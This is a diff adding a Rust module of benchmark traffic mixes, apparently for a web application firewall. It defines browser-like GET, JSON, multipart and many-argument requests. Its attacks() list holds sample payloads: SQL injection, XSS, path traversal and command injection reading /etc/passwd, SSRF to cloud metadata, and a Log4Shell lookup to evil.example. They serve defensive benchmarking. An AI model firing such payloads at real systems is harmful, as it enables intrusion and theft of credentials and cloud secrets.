@@ -1,0 +1,181 @@
+//! Request mixes shared by the criterion benchmarks (`benches/engine.rs`,
+//! the engine alone) and the Envoy load runner (`src/bin/palisade-bench.rs`),
+//! so both measure the same traffic.
+
+/// One request of a mix, as sent on the wire.
+#[derive(Clone, Debug)]
+pub struct MixRequest {
+    pub method: &'static str,
+    pub path: String,
+    pub headers: Vec<(String, String)>,
+    pub body: Vec<u8>,
+}
+
+/// The traffic shapes the issue asks for.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
+pub enum Mix {
+    /// A plain GET with browser-like headers.
+    Get,
+    /// A 4 KB JSON POST.
+    Json4k,
+    /// A 64 KB multipart upload.
+    Multipart64k,
+    /// A URL with 50 query arguments.
+    Args50,
+    /// A stream of attacks (mostly blocked).
+    Attacks,
+}
+
+impl Mix {
+    pub const ALL: [Mix; 5] = [
+        Mix::Get,
+        Mix::Json4k,
+        Mix::Multipart64k,
+        Mix::Args50,
+        Mix::Attacks,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Mix::Get => "GET",
+            Mix::Json4k => "JSON 4 KB",
+            Mix::Multipart64k => "multipart 64 KB",
+            Mix::Args50 => "50 query args",
+            Mix::Attacks => "attacks",
+        }
+    }
+
+    /// The requests of this mix; a runner cycles through them.
+    pub fn requests(self) -> Vec<MixRequest> {
+        match self {
+            Mix::Get => vec![get()],
+            Mix::Json4k => vec![json_4k()],
+            Mix::Multipart64k => vec![multipart_64k()],
+            Mix::Args50 => vec![args_50()],
+            Mix::Attacks => attacks(),
+        }
+    }
+}
+
+fn browser_headers() -> Vec<(String, String)> {
+    [
+        ("host", "bench.example"),
+        (
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
+        ),
+        (
+            "accept",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        ),
+        ("accept-language", "en-US,en;q=0.5"),
+        ("accept-encoding", "gzip, deflate, br"),
+        ("referer", "https://bench.example/products?page=2"),
+        (
+            "cookie",
+            "session=6f1c2a9e0b7d4c3f8e5a1b2c3d4e5f60; theme=dark; consent=%7B%22ads%22%3Afalse%7D",
+        ),
+        ("upgrade-insecure-requests", "1"),
+    ]
+    .iter()
+    .map(|(n, v)| (n.to_string(), v.to_string()))
+    .collect()
+}
+
+fn with_content_type(ct: &str) -> Vec<(String, String)> {
+    let mut h = browser_headers();
+    h.push(("content-type".to_string(), ct.to_string()));
+    h
+}
+
+fn get() -> MixRequest {
+    MixRequest {
+        method: "GET",
+        path: "/products/red-shoes?size=42&color=red".to_string(),
+        headers: browser_headers(),
+        body: Vec::new(),
+    }
+}
+
+fn json_4k() -> MixRequest {
+    let mut items = Vec::new();
+    let mut i = 0;
+    // Grow an order document until it is about 4 KB.
+    loop {
+        let item = format!(
+            r#"{{"sku":"SKU-{i:05}","name":"Item number {i}, blue / large","qty":{},"price":{}.99,"note":"gift wrap; deliver after 5pm"}}"#,
+            i % 7 + 1,
+            i * 3 + 10
+        );
+        items.push(item);
+        i += 1;
+        if items.iter().map(String::len).sum::<usize>() > 3900 {
+            break;
+        }
+    }
+    let body = format!(
+        r#"{{"customer":{{"name":"Jane O'Connor","email":"jane@example.com"}},"items":[{}]}}"#,
+        items.join(",")
+    );
+    MixRequest {
+        method: "POST",
+        path: "/api/v1/orders".to_string(),
+        headers: with_content_type("application/json"),
+        body: body.into_bytes(),
+    }
+}
+
+fn multipart_64k() -> MixRequest {
+    let boundary = "----palisadebench7d93";
+    let mut body = format!(
+        "--{boundary}\r\ncontent-disposition: form-data; name=\"title\"\r\n\r\nQuarterly report\r\n\
+         --{boundary}\r\ncontent-disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\n\
+         content-type: text/csv\r\n\r\n"
+    );
+    let line = "2024-05-01,widget,42,19.99,\"north, east\"\r\n";
+    while body.len() < 64 * 1024 - 64 {
+        body.push_str(line);
+    }
+    body.push_str(&format!("\r\n--{boundary}--\r\n"));
+    MixRequest {
+        method: "POST",
+        path: "/upload".to_string(),
+        headers: with_content_type(&format!("multipart/form-data; boundary={boundary}")),
+        body: body.into_bytes(),
+    }
+}
+
+fn args_50() -> MixRequest {
+    let query: Vec<String> = (0..50)
+        .map(|i| format!("field{i}=value+number+{i}%2C+ok"))
+        .collect();
+    MixRequest {
+        method: "GET",
+        path: format!("/search?{}", query.join("&")),
+        headers: browser_headers(),
+        body: Vec::new(),
+    }
+}
+
+fn attacks() -> Vec<MixRequest> {
+    let paths = [
+        "/?id=1%27%20OR%201=1--",
+        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/download?file=../../../../etc/passwd",
+        "/ping?host=127.0.0.1;cat%20/etc/passwd",
+        "/fetch?url=http://169.254.169.254/latest/meta-data/",
+        "/?x=%24%7Bjndi:ldap://evil.example/a%7D",
+        "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
+        // One in eight is clean, so the mix is "mostly blocked".
+        "/products/red-shoes?size=42",
+    ];
+    paths
+        .iter()
+        .map(|p| MixRequest {
+            method: "GET",
+            path: p.to_string(),
+            headers: browser_headers(),
+            body: Vec::new(),
+        })
+        .collect()
+}
